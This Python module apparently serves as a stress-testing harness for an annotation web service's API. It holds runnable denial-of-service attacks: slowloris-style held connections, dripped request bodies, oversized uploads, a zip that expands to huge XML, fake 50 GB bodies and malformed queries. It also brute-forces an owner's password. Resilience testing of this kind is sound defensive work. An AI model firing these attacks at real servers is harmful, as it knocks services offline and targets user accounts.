"""What one nasty member, who may only look, tries against everybody else; and what anybody may try from outside.

Each attack is a function that goes on until `stop` is set. All of them run in one process of low priority, so that
what is measured is the server and not who attacks it.
"""

import contextlib
import io
import itertools
import json
import socket
import sys
import threading
import uuid
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import urlsplit

import httpx
from PIL import Image

PAUSE = 0.05


@dataclass(frozen=True)
class Target:
    """Where the viewer is let in, and a team of her own, where she may do what she likes."""

    url: str
    token: str
    project: int
    snapshot: int
    own_team: str
    own_project: int
    own_image: int
    own_label: int

    def client(self) -> httpx.Client:
        return httpx.Client(
            base_url=f"{self.url}/api/v1/", headers={"Authorization": f"Token {self.token}"}, timeout=30
        )


Attack = Callable[[Target, threading.Event], None]


def stalled_downloads(target: Target, stop: threading.Event) -> None:
    """Fifty at once that read nothing; whoever is hung up on comes again."""
    _keep_open(target, stop, f"snapshots/{target.snapshot}/download/voc/", 50)


def event_streams(target: Target, stop: threading.Event) -> None:
    _keep_open(target, stop, f"projects/{target.project}/events/", 300)


def _keep_open(target: Target, stop: threading.Event, path: str, count: int) -> None:
    lines: list[socket.socket] = []
    while not stop.wait(PAUSE):
        lines = [line for line in lines if _is_open(line)]
        for _ in range(min(10, count - len(lines))):
            with contextlib.suppress(OSError):
                lines.append(_request(target, f"GET /api/v1/{path} HTTP/1.1"))
    for line in lines:
        line.close()


def _is_open(line: socket.socket) -> bool:
    """Looks without reading: the attack is not to read."""
    line.setblocking(False)
    try:
        return line.recv(1, socket.MSG_PEEK) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


def _request(target: Target, head: str, *headers: str, anonymous: bool = False) -> socket.socket:
    parts = urlsplit(target.url)
    line = socket.socket()
    line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    line.settimeout(10)
    line.connect((parts.hostname, parts.port))
    who = [] if anonymous else [f"Authorization: Token {target.token}"]
    lines = [head, f"Host: {parts.netloc}", *who, *headers, "", ""]
    line.sendall("\r\n".join(lines).encode())
    return line


def many_labels(target: Target, stop: threading.Event) -> None:
    labels = [{"name": f"label {n}"} for n in range(6000)]
    body = {"team": target.own_team, "name": "Many", "task": "detection", "labels": labels}
    with target.client() as client:
        _again(stop, lambda: client.post("projects/", json=body))


def empty_rows(target: Target, stop: threading.Event) -> None:
    """9.8 MB of zeros where boxes are expected."""
    body = b'{"base_revision": 0, "upsert": [' + b"0," * 4_900_000 + b"0]}"
    headers = {"Content-Type": "application/json"}
    with target.client() as client:
        path = f"images/{target.own_image}/annotations/"
        _again(stop, lambda: client.patch(path, content=body, headers=headers))


def full_images(target: Target, stop: threading.Event) -> None:
    """An image with all the boxes that it may carry, each of them moved again and again."""
    with target.client() as client:
        label = target.own_label
        ids = [str(uuid.uuid4()) for _ in range(5000)]
        path = f"images/{target.own_image}/annotations/"
        revision = 0
        for turn in itertools.count():
            rows = [
                {"id": id_, "label": label, "x_min": turn % 50, "y_min": 1, "x_max": 60 + turn % 50, "y_max": 60}
                for id_ in ids
            ]
            try:
                answer = client.patch(path, json={"base_revision": revision, "upsert": rows})
            except httpx.HTTPError:
                continue
            with contextlib.suppress(ValueError):
                revision = answer.json().get("revision", revision)
            if stop.wait(PAUSE):
                return


def large_pictures(target: Target, stop: threading.Event) -> None:
    """Sixteen uploads at once, each just under twelve megapixels."""
    data = io.BytesIO()
    Image.effect_noise((3990, 3000), 40).convert("RGB").save(data, "JPEG", quality=60)
    numbers = itertools.count()

    def upload() -> None:
        content = data.getvalue() + str(next(numbers)).encode()
        with target.client() as client:
            files = [("files", ("large.jpg", content, "image/jpeg"))]
            _again(stop, lambda: client.post(f"projects/{target.own_project}/images/", files=files))

    threads = [threading.Thread(target=upload, daemon=True) for _ in range(16)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def chatty_archives(target: Target, stop: threading.Event) -> None:
    """A small zip that unpacks to a million complaints."""
    objects = "<object><name>x</name><bndbox/></object>" * 200_000
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(5):
            archive.writestr(f"{number}.xml", f"<annotation>{objects}</annotation>")
    with target.client() as client:
        files = {"archive": ("chatty.zip", packed.getvalue(), "application/zip")}
        path = f"projects/{target.own_project}/imports/"

        def send() -> None:
            client.post(path, files=files)
            client.get(path)

        _again(stop, send, pause=2)


def huge_bodies(target: Target, stop: threading.Event) -> None:
    """50 GB announced to an address that is not there, by nobody."""
    while not stop.wait(PAUSE):
        head = ("POST /api/v1/nowhere/ HTTP/1.1", "Content-Length: 50000000000")
        with contextlib.suppress(OSError), _request(target, *head, anonymous=True) as line:
            for _ in range(200):
                line.sendall(b"x" * 65536)


def slow_bodies(target: Target, stop: threading.Event) -> None:
    """A hundred logins, of which a byte comes now and then."""
    lines: list[socket.socket] = []
    head = "POST /api/v1/auth/login/ HTTP/1.1"
    headers = ("Content-Type: application/json", "Content-Length: 60000")
    while not stop.wait(1):
        lines = [line for line in lines if _drip(line)]
        while len(lines) < 100 and not stop.is_set():
            with contextlib.suppress(OSError):
                lines.append(_request(target, head, *headers, anonymous=True))
    for line in lines:
        line.close()


def _drip(line: socket.socket) -> bool:
    with contextlib.suppress(OSError):
        line.sendall(b" ")
        return True
    return False


def odd_requests(target: Target, stop: threading.Event) -> None:
    deep = b"[" * 200_000
    asks = [
        lambda client: client.get("projects/", params={"limit": "9" * 5000}),
        lambda client: client.get(f"projects/{target.project}/images/", params={"search": "a\0b"}),
        lambda client: client.get("projects/", params={"cursor": "W2ZhbHNlLFsiXHUwMDAwIl1d"}),
        lambda client: client.post("projects/", content=deep, headers={"Content-Type": "application/json"}),
        lambda client: client.get(f"snapshots/{target.snapshot}/diff/{target.snapshot}/"),
        lambda client: client.get(f"projects/{target.project}/images/", params={"search": "%", "limit": 200}),
    ]
    turns = itertools.cycle(asks)
    with target.client() as client:
        _again(stop, lambda: next(turns)(client))


def guesses(target: Target, stop: threading.Event) -> None:
    """Passwords of the owner."""
    with httpx.Client(base_url=f"{target.url}/api/v1/", timeout=30) as client:
        body = {"email": "owner@example.org", "password": "not this one either"}
        _again(stop, lambda: client.post("auth/token/", json=body))


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        stalled_downloads,
        event_streams,
        many_labels,
        empty_rows,
        full_images,
        large_pictures,
        chatty_archives,
        huge_bodies,
        slow_bodies,
        odd_requests,
        guesses,
    )
}


def _again(stop: threading.Event, ask: Callable[[], object], pause: float = PAUSE) -> None:
    """Whatever is answered, and also when nothing is."""
    while not stop.wait(pause):
        with contextlib.suppress(httpx.HTTPError, json.JSONDecodeError):
            ask()


def main(described: str, *names: str) -> None:
    """All the named attacks at once, until this process is killed."""
    target, stop = Target(**json.loads(described)), threading.Event()
    for name in names:
        threading.Thread(target=ATTACKS[name], args=(target, stop), name=name, daemon=True).start()
    stop.wait()


if __name__ == "__main__":
    main(*sys.argv[1:])
